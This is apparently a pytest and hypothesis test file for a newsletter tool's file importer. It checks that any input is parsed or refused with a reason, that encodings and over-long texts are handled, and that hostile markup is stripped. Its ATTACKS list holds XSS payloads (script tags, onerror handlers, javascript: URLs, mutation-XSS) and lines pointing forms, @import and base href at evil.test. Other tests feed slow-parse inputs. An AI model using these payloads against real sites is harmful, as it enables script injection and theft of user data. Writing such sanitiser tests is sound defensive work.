"""Files of any kind are read or refused with one sentence; nothing hostile gets through."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mailer.blocks import Content
from mailer.composing.importing import read_issue
from mailer.errors import InvalidFile, InvalidIssue

NAMES = st.sampled_from(["", "a.md", "a.html", "a.txt", "a.json"])
PIECES = st.sampled_from(
    list("*_`#>-+|!&<()[]{}:,'\"\\ \t\n\r\x0c\x85\x00\ud800é日س")
    + ["<p>", "<ul>", "<li>", "</ul>", "<table><tr><th>", "<td>", "<a href='", "</a>", "<h1>"]
    + ["<a href=https://example.com/>", "<img src=x>", "<br>", "<blockquote>", "<hr>", "<!--"]
    + ["<script>", "<style>", "-->", "<!-- text -->", "<!-- actions -->", "<!-- response -->"]
    + ["{.button}", "---\n", "subject: x\n", "title: [\n", "Subject: y\n", "## ", "1. ", "- "]
    + ["Click HERE to learn more. ", "Unsubscribe", "word&utm_source=y", " February 30, 2020 "]
    + ["by May 3 ", "Urgent! ", "X Y responds ", "Twin Town Campaign – A ", "*|FNAME|*", "{%"]
    + ['{"subject":', '"blocks":[', '{"chapters":[', "[x]: /y\n", "[a][b]", "![a](b)", "\n\n"]
    + ["| a | b |\n|---|---|\n", "\n===\n", "<div style='display:none'>", "<svg><a>", "<pre>"]
)
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" jav&#x09;ascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<form action="https://evil.test/"><input name=p><button>Send</button></form>',
    "<style>@import 'https://evil.test/'</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<base href='https://evil.test/'><a href=x>x</a>",
]
FORBIDDEN = re.compile(r"<(?!/?(?:p|br|strong|em|a|ul|ol|li)[ >])|<[^>]*(?:\son\w+=|style=)")


def bodies_and_addresses(content: Content) -> tuple[str, list[str]]:
    fields = [block.model_dump(mode="json") for block in content.blocks]
    bodies = "".join(str(f.get(name, "")) for f in fields for name in ("body", "view", "quote"))
    buttons = [f.get("button") or {} for f in fields]
    addresses = [f.get(name) for f in fields for name in ("url", "image")]
    return bodies, [url for url in [*addresses, *(b.get("url") for b in buttons)] if url]


class TestHostileFiles:
    @settings(max_examples=300)
    @given(st.lists(PIECES, max_size=25).map("".join), NAMES)
    def test_any_text_is_read_or_refused(self, text: str, name: str) -> None:
        try:
            told = read_issue(text, filename=name).content.subject
        except (InvalidFile, InvalidIssue) as error:
            told = str(error)
        assert told

    @settings(max_examples=200)
    @given(st.binary(max_size=300), NAMES)
    def test_any_bytes_are_read_or_refused(self, data: bytes, name: str) -> None:
        try:
            told = read_issue(data, filename=name).content.subject
        except (InvalidFile, InvalidIssue) as error:
            told = str(error)
        assert told

    @pytest.mark.parametrize("attack", ATTACKS)
    @pytest.mark.parametrize("name", ["a.md", "a.html", "a.txt", ""])
    def test_attacks_do_not_survive(self, attack: str, name: str) -> None:
        content = read_issue(
            f"A subject\n\nWords before.\n\n{attack}\n\nafter", filename=name
        ).content
        bodies, addresses = bodies_and_addresses(content)
        assert not FORBIDDEN.search(bodies)
        assert all(url.startswith(("https:", "http:", "mailto:", "tel:")) for url in addresses)

    @pytest.mark.parametrize(
        ("text", "name"),
        [
            ("Words and more words. " * 12_000, "a.txt"),
            ("A B\n\n" * 10_000, "a.txt"),
            ("Twin Town Campaign – A " * 12_000, "a.txt"),
            ("https://example.com/" + "(" * 3000 + ")" * 3000 + " ", "a.txt"),
            ("- a\n" * 25_000, "a.md"),
            ("[a][b] " * 10_000, "a.md"),
            ("<!--" * 60_000, "a.md"),
            ("{% comment %}" * 20_000, "a.md"),
            ("<!---->" * 700 + "x", "a.html"),
            ("<div>" * 50_000 + "x", "a.html"),
            ("<a href=https://example.com/>x" * 8_000, "a.html"),
        ],
    )
    def test_long_files_take_no_long_time(self, text: str, name: str) -> None:
        """A quarter of a megabyte of the worst kind, with room for a busy machine."""
        start = time.process_time()
        try:
            told = read_issue(text, filename=name).content.subject
        except InvalidFile as error:
            told = str(error)
        assert told
        assert time.process_time() - start < 6


class TestEncodings:
    @pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
    def test_unicode_is_read_by_its_mark(self, encoding: str) -> None:
        imported = read_issue("Über die Brücke\n\nEs taut.\n".encode(encoding))
        assert imported.content.subject == "Über die Brücke"
        assert imported.notes == ()

    def test_windows_text_is_read_with_a_note(self) -> None:
        imported = read_issue("Über die Brücke\n\nEs taut.\n".encode("cp1252"))
        assert imported.content.subject == "Über die Brücke"
        assert any("not UTF-8" in note for note in imported.notes)

    @pytest.mark.parametrize(
        ("data", "told"),
        [
            (b"", "empty"),
            (b" \n\t", "empty"),
            (b"%PDF-1.7 ...", "PDF"),
            (b"PK\x03\x04....", "Word"),
            (b"\x00\x01\x02", "NUL"),
            (b"\xff\xfea", "breaks at byte"),
            (b"x" * 5_000_001, "5 MB"),
            (b"\n" * 40_000 + b"x", "lines"),
            ("<html><body></body></html>", "no text"),
        ],
    )
    def test_what_is_no_text_is_refused_with_the_reason(self, data: bytes | str, told: str) -> None:
        with pytest.raises(InvalidFile, match=told):
            read_issue(data)


class TestLongTexts:
    def test_more_parts_than_blocks_are_joined_and_not_lost(self) -> None:
        text = "".join(f"## Part {n}\n\nWords of part number {n}.\n\n" for n in range(400))
        imported = read_issue(text, filename="a.md")
        assert len(imported.content.blocks) <= 200
        assert "Words of part number 399." in str(imported.content)
        assert any("more parts than an issue holds" in note for note in imported.notes)

    def test_a_body_longer_than_a_block_takes_is_parted(self) -> None:
        words = " ".join(f"word{n}" for n in range(40_000))
        imported = read_issue(f"A subject line\n\n{words}.", filename="a.txt")
        assert len(imported.content.blocks) > 1
        assert all(f"word{n}" in str(imported.content) for n in (0, 20_000, 39_999))

    def test_a_list_longer_than_a_block_takes_is_parted(self) -> None:
        text = "".join(f"- [Letter {n}](https://example.com/{n})\n" for n in range(250))
        blocks = read_issue(f"# Letters\n\n{text}", filename="a.md").content.blocks
        assert [len(block.model_dump()["items"]) for block in blocks] == [100, 100, 50]
